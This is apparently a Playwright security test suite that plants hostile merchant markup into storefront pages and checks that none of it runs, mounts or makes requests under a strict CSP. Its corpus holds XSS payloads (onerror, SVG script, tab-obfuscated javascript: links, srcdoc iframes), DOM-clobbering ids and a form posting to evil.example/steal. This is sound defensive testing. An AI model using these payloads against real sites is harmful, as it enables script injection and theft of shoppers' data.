/**
 * The hostile-content suite (issue 28): a corpus of planted markup — a marker of every widget, ids and names that
 * clobber the page's globals and configuration, decoy parts, forms, scripts, styles and links with bypass schemes —
 * placed in every merchant-content area of every fixture page (each `[data-widget-ignore]` the page has, plus one at
 * the top of `main#content`, one in the aside and one in the footer, as a theme marks its shop-content blocks), under
 * the strict nonce CSP. Loaded at 390 px, resized to 1280 px and back (the responsive widget moves and clones content
 * below 757 px), and on the guide across a partial navigation there and back: nothing planted mounts (wherever it
 * was moved or cloned), runs, is given a nonce, or sends a request.
 */
import { readdirSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { ALL_PAGES, STRICT_CSP, resizeTo, serveWithCsp, waitForWidgets } from './helpers';
import { nextPartial, partialDone } from './nav-helpers';

/** Every widget the bundle has (its folder's name is its marker's name). */
const WIDGETS = readdirSync(new URL('../../widgets/', import.meta.url), { withFileTypes: true })
  .filter((d) => d.isDirectory())
  .map((d) => d.name);

const EVIL = 'https://evil.example';

/** The planted markup: every element carries data-planted; whatever would run calls __planted(tag). */
function corpus(where: string): string {
  const p = `data-planted="${where}"`;
  const markers = WIDGETS.map(
    (name) =>
      `<div ${p} data-widget="${name}" data-hydrate="load" data-config='{"url":"${EVIL}/${name}","tiles":"${EVIL}/{z}/{x}/{y}.png","pointsUrl":"${EVIL}/p.json","basketUrl":"${EVIL}/b"}' data-basket-url="${EVIL}/b" data-tiles="${EVIL}/{z}/{x}/{y}.png"><a ${p} href="${EVIL}/${name}" data-mobile-clone>${name}</a></div>`,
  ).join('');
  return `<div ${p} data-mobile-grid="#content">${markers}
<form ${p} id="app_shop" name="storefront"><input name="urls" value="${EVIL}/"><input name="vars"></form>
<div ${p} id="storefront-config">{"graphql":"${EVIL}/graphql","accountsUrl":"${EVIL}/"}</div>
<script ${p} type="application/json" id="storefront-config">{"graphql":"${EVIL}/graphql"}</script>
<img ${p} name="instalmentData" src="data:,"><a ${p} id="selectLanguageConfig" href="${EVIL}/lang"></a><a ${p} id="product_data"></a>
<div ${p} id="projector_price_deposit" class="projector_prices__deposit --active"><strong id="projector_price_deposit_value" data-price="1">1</strong><a ${p} href="${EVIL}/deposit">?</a></div>
<form ${p} action="${EVIL}/steal" method="post" data-widget="form"><input name="email" value="a@b.pl"><input name="action" value="${EVIL}/"></form>
<script ${p}>__planted('inline script ${where}')</script>
<script ${p} class="ajaxLoad">__planted('ajaxLoad ${where}')</script>
<script ${p} data-ajax-load>__planted('ajax marked ${where}')</script>
<script ${p} src="${EVIL}/x.js"></script><script ${p} type="module" src="/storefront/loader.js" nonce="d3c0y"></script>
<style ${p}>#content { outline: 7px solid rgb(6, 6, 6) }</style><link ${p} rel="stylesheet" href="${EVIL}/x.css">
<img ${p} src="x" onerror="__planted('onerror ${where}')"><svg ${p}><script>__planted('svg ${where}')</script></svg>
<a ${p} href="java&#9;script:__planted('tab ${where}')">a</a><a ${p} href=" javascript:__planted('space ${where}')">b</a>
<iframe ${p} srcdoc="<script>parent.__planted('srcdoc ${where}')</script>"></iframe>
<template ${p}><div data-widget="menu_notice" data-hydrate="load"></div></template></div>`;
}

/** Puts the corpus into every merchant-content area of a page's HTML (after the theme's nonces are written). */
function plant(html: string): string {
  let out = html.replace(/(<[a-z]+\b[^>]*\sdata-widget-ignore(?:="[^"]*")?[^>]*>)/g, (tag) => `${tag}${corpus('ignored area')}`);
  const area = (where: string) => `<div data-widget-ignore class="hostile-area">${corpus(where)}</div>`;
  out = out.replace(/(<main\b[^>]*>)/, `$1${area('content')}`);
  out = out.replace(/(<aside\b[^>]*>)/, `$1${area('aside')}`);
  out = out.replace(/(<footer\b[^>]*>)/, `$1${area('footer')}`);
  return out;
}

interface Watch {
  requests: string[];
  navigations: string[];
}

async function watch(page: Page): Promise<Watch> {
  const w: Watch = { requests: [], navigations: [] };
  await page.route(
    (url) => url.hostname === 'evil.example',
    (route) => {
      w.requests.push(route.request().url());
      return route.abort();
    },
  );
  page.on('framenavigated', (frame) => frame === page.mainFrame() && w.navigations.push(frame.url()));
  await page.addInitScript(() => {
    const calls: string[] = [];
    Object.defineProperty(window, '__plantedCalls', { value: calls });
    (window as unknown as { __planted: (tag: string) => void }).__planted = (tag) => calls.push(tag);
  });
  return w;
}

/** What the planted markup managed: mounted markers, runs, nonces it was given, the page's config it decided. */
async function damage(page: Page): Promise<Record<string, unknown>> {
  return page.evaluate(() => ({
    mounted: [...document.querySelectorAll('[data-planted][data-widget-state]')].map(
      (el) => `${el.getAttribute('data-widget')} (${el.getAttribute('data-widget-state')}) from ${el.getAttribute('data-planted')}`,
    ),
    ran: [...(window as unknown as { __plantedCalls: string[] }).__plantedCalls],
    nonced: [...document.querySelectorAll('[data-planted] script, script[data-planted], style[data-planted]')]
      // Only the theme's page nonce would let a script run; the decoy's own (browsers hide the attribute) is its own.
      .filter((el) => {
        const nonce = (el as HTMLElement).nonce || el.getAttribute('nonce');
        return nonce && nonce !== 'd3c0y';
      })
      .map((el) => el.outerHTML.slice(0, 80)),
    outlined: getComputedStyle(document.querySelector('#content') ?? document.body).outlineColor === 'rgb(6, 6, 6)',
  }));
}

const NONE = { mounted: [], ran: [], nonced: [], outlined: false };

test.describe('hostile merchant content', () => {
  for (const path of ALL_PAGES) {
    test(`${path}: nothing planted in its shop-content areas mounts, runs or sends a request, at 390 px, 1280 px and back`, async ({ page }) => {
      const w = await watch(page);
      await serveWithCsp(page, STRICT_CSP, (url) => url.pathname === new URL(path, 'http://x').pathname, { edit: plant });
      await page.setViewportSize({ width: 390, height: 900 });
      await page.goto(path);
      await waitForWidgets(page);
      expect(await page.locator('[data-planted]').count()).toBeGreaterThan(WIDGETS.length);
      expect(await damage(page), 'at 390 px').toEqual(NONE);
      await resizeTo(page, 1280);
      expect(await damage(page), 'at 1280 px').toEqual(NONE);
      await resizeTo(page, 390);
      expect(await damage(page), 'back at 390 px').toEqual(NONE);
      expect(w.requests).toEqual([]);
      // No document but this one (same-document history entries of the page's own widgets stay on it).
      expect([...new Set(w.navigations.map((u) => new URL(u).pathname))]).toEqual([new URL(path, 'http://x').pathname]);
    });
  }

  for (const width of [390, 1280]) {
    test(`the guide at ${width} px: planted content arriving with a partial navigation, there and back, stays inert`, async ({ page }) => {
      const w = await watch(page);
      await serveWithCsp(page, STRICT_CSP, (url) => url.pathname.endsWith('/guide.php'), { edit: plant });
      await page.route(
        (url) => url.pathname.endsWith('/guide.php') && url.searchParams.get('set_render') === 'content,head',
        async (route) => {
          const response = await route.fetch();
          await route.fulfill({ response, body: plant(await response.text()) });
        },
      );
      await page.setViewportSize({ width, height: 900 });
      await page.goto('/guide.php?id=1');
      await waitForWidgets(page);
      expect(await damage(page), 'first load').toEqual(NONE);
      await nextPartial(page);
      await page.locator('.guide__nav a', { hasText: 'Pielęgnacja odzieży' }).click();
      expect((await partialDone(page)).ok).toBe(true);
      await expect(page.locator('main [data-planted]').first()).toBeAttached();
      expect(await damage(page), 'after the partial navigation').toEqual(NONE);
      await nextPartial(page);
      await page.goBack();
      expect((await partialDone(page)).ok).toBe(true);
      expect(await damage(page), 'back').toEqual(NONE);
      await resizeTo(page, width === 390 ? 1280 : 390);
      expect(await damage(page), 'resized').toEqual(NONE);
      expect(w.requests).toEqual([]);
    });
  }
});
